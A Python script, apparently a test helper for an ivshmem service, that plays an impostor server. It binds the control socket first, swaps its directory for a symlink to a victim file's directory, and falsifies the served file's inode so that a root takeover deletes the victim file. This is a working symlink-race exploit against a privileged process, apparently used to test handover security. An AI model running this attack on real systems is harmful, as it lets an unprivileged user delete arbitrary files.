"""A process that bound a server's control path first, and offers root a service to take over.

    impostor.py SOCKET DIRECTORY VICTIM

It serves a region at DIRECTORY/NAME, where NAME is that of the file VICTIM. Then a symbolic link
takes DIRECTORY's place, which leads to VICTIM's directory. The offer says that VICTIM's inode is
the server's socket, and that it is to be removed in the end.
"""

from __future__ import annotations

import os
import socket
import sys
from pathlib import Path

from ivshmem.config import RegionConfig, ServiceConfig
from ivshmem.lasting import handover
from ivshmem.service.service import Service


def main(server: str, place: str, victim: str) -> None:
    os.umask(0)
    directory = Path(place)
    directory.mkdir()
    path = directory / Path(victim).name
    region = RegionConfig(str(path), size=1 << 16, mode=0o666)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"{server}.control")
        listener.listen()
        service = Service(ServiceConfig({"ivshmem": region}))
        service.open()
        directory.rename(f"{place}.moved")
        directory.symlink_to(Path(victim).parent)
        status = os.stat(victim)
        served = service.regions["ivshmem"].listener
        served._file = (status.st_dev, status.st_ino)
        print("ready", flush=True)
        while True:
            sock, _ = listener.accept()
            if sock.recv(1000).startswith(b'{"do": "takeover"}'):
                print("given" if handover.give(service, sock) else "kept", flush=True)
            sock.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
